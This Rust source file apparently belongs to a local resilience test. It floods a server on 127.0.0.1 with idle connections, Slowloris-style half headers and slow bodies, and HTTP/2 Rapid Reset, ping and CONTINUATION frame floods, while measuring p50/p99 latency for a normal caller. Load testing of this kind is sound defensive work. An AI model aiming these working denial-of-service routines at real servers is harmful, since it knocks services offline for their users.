//! Attacks on a server, and the latency of a caller that means well meanwhile. For servers on this machine alone: the address is a port
//! of 127.0.0.1, and all of it ends by itself.
#![forbid(unsafe_code)]

use std::{
    io,
    net::{Ipv4Addr, SocketAddr},
    path::PathBuf,
    time::{Duration, Instant},
};

use clap::{Parser, Subcommand, ValueEnum};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
    time::{sleep, sleep_until, timeout},
};

/// Attacks a server on 127.0.0.1, or measures how it answers others.
#[derive(Parser)]
struct Args {
    /// The server's port
    #[arg(long)]
    port: u16,
    /// When to end, in seconds
    #[arg(long)]
    seconds: u64,
    #[command(subcommand)]
    task: Task,
}

#[derive(Subcommand)]
enum Task {
    /// Keep up an attack
    Attack { kind: Kind },
    /// Post this body to this path at a steady rate; print p50, p99 in milliseconds, and the number of requests and of failures
    Measure {
        path: String,
        body: PathBuf,
        #[arg(long, default_value_t = 200)]
        rate: u32,
    },
}

#[derive(Clone, Copy, ValueEnum)]
enum Kind {
    /// 1,000 connections that say nothing
    Idle,
    /// 500 requests whose header never ends
    HalfHeaders,
    /// 500 requests whose body comes by a byte a second
    SlowBodies,
    /// HTTP/2 requests, each reset at once
    RapidReset,
    /// HTTP/2 pings, whose answers nobody reads
    Pings,
    /// An HTTP/2 header block that never ends
    Continuation,
}

fn main() -> io::Result<()> {
    let args = Args::parse();
    let address = SocketAddr::from((Ipv4Addr::LOCALHOST, args.port));
    let time = Duration::from_secs(args.seconds);
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    runtime.block_on(async {
        match args.task {
            Task::Attack { kind } => {
                // The end of the time is the end of the attack.
                let _ = timeout(time, attack(address, kind)).await;
                Ok(())
            }
            Task::Measure { path, body, rate } => {
                let body = std::fs::read_to_string(body)?;
                measure(address, &path, &body, rate, time).await
            }
        }
    })
}

/// Attacks for ever: what the server closes is opened anew.
async fn attack(address: SocketAddr, kind: Kind) {
    let count = match kind {
        Kind::Idle => 1000,
        Kind::HalfHeaders | Kind::SlowBodies => 500,
        Kind::RapidReset | Kind::Pings | Kind::Continuation => 1,
    };
    let mut attackers = JoinSet::new();
    for _ in 0..count {
        attackers.spawn(async move {
            loop {
                // Whatever ends a connection, the next one follows.
                let _ = hold(address, kind).await;
                sleep(Duration::from_millis(10)).await;
            }
        });
    }
    attackers.join_all().await;
}

/// One connection, until the server closes it.
async fn hold(address: SocketAddr, kind: Kind) -> io::Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    let post = "POST /v2/models/iris/infer HTTP/1.1\r\nHost: a\r\n";
    match kind {
        Kind::Idle => until_closed(&mut stream).await,
        Kind::HalfHeaders => {
            stream.write_all(post.as_bytes()).await?;
            until_closed(&mut stream).await
        }
        Kind::SlowBodies => {
            stream
                .write_all(format!("{post}Content-Length: 100000\r\n\r\n").as_bytes())
                .await?;
            loop {
                stream.write_all(b" ").await?;
                sleep(Duration::from_secs(1)).await;
            }
        }
        Kind::RapidReset | Kind::Pings | Kind::Continuation => flood(&mut stream, kind).await,
    }
}

async fn until_closed(stream: &mut TcpStream) -> io::Result<()> {
    while stream.read(&mut [0; 1024]).await? > 0 {}
    Ok(())
}

/// Frames in bundles, as fast as they are taken.
async fn flood(stream: &mut TcpStream, kind: Kind) -> io::Result<()> {
    // `:method: GET`, `:scheme: http`, `:path: /` by their places in HPACK's table; `:authority: a`.
    const BLOCK: &[u8] = &[0x82, 0x86, 0x84, 0x01, 1, b'a'];
    stream
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        .await?;
    stream.write_all(&frame(4, 0, 0, &[])).await?;
    if matches!(kind, Kind::Continuation) {
        stream.write_all(&frame(1, 1, 1, BLOCK)).await?;
    }
    let mut next = 1;
    loop {
        let mut bundle = Vec::new();
        for _ in 0..100 {
            match kind {
                Kind::RapidReset => {
                    bundle.extend(frame(1, 5, next, BLOCK));
                    bundle.extend(frame(3, 0, next, &8u32.to_be_bytes()));
                    next += 2;
                }
                Kind::Continuation => bundle.extend(frame(9, 0, 1, &[0x00, 1, b'a', 0])),
                _ => bundle.extend(frame(6, 0, 0, &[0; 8])),
            }
        }
        stream.write_all(&bundle).await?;
        // The clock must get its turn where the server takes everything.
        tokio::task::yield_now().await;
    }
}

/// RFC 9113, 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = vec![0, 0, payload.len() as u8, kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// Four callers that keep their connections, each with its share of the rate; a request is measured from when it was due.
async fn measure(
    address: SocketAddr,
    path: &str,
    body: &str,
    rate: u32,
    time: Duration,
) -> io::Result<()> {
    const CALLERS: u32 = 4;
    let request = format!(
        "POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let pause = Duration::from_secs(1) * CALLERS / rate.max(1);
    let begun = Instant::now();
    let mut callers = JoinSet::new();
    for caller in 0..CALLERS {
        let request = request.clone();
        callers.spawn(async move {
            let mut taken = Vec::new();
            let mut failed = 0;
            let mut stream = None;
            let mut due = begun + pause * caller / CALLERS;
            while due < begun + time {
                sleep_until(due.into()).await;
                match timeout(Duration::from_secs(5), ask(&mut stream, address, &request)).await {
                    Ok(Ok(())) => taken.push(due.elapsed()),
                    _ => {
                        failed += 1;
                        stream = None;
                    }
                }
                due += pause;
            }
            (taken, failed)
        });
    }
    let (mut taken, mut failed) = (Vec::new(), 0);
    for (more, lost) in callers.join_all().await {
        taken.extend(more);
        failed += lost;
    }
    taken.sort_unstable();
    let at = |percent: usize| {
        let place = (taken.len() * percent).div_ceil(100).max(1) - 1;
        taken
            .get(place)
            .map_or(f64::NAN, |time| time.as_secs_f64() * 1e3)
    };
    println!("{:.3} {:.3} {} {failed}", at(50), at(99), taken.len());
    Ok(())
}

/// One request and its whole answer, which must be 200.
async fn ask(stream: &mut Option<TcpStream>, address: SocketAddr, request: &str) -> io::Result<()> {
    let mut open = match stream.take() {
        Some(open) => open,
        None => TcpStream::connect(address).await?,
    };
    open.set_nodelay(true)?;
    open.write_all(request.as_bytes()).await?;
    let mut answer = Vec::new();
    loop {
        if open.read_buf(&mut answer).await? == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        let text = String::from_utf8_lossy(&answer);
        let Some((head, rest)) = text.split_once("\r\n\r\n") else {
            continue;
        };
        let length = head
            .to_ascii_lowercase()
            .lines()
            .find_map(|line| line.strip_prefix("content-length: ")?.parse().ok())
            .unwrap_or(0);
        if rest.len() >= length {
            if !head.starts_with("HTTP/1.1 200") {
                return Err(io::ErrorKind::InvalidData.into());
            }
            *stream = Some(open);
            return Ok(());
        }
    }
}
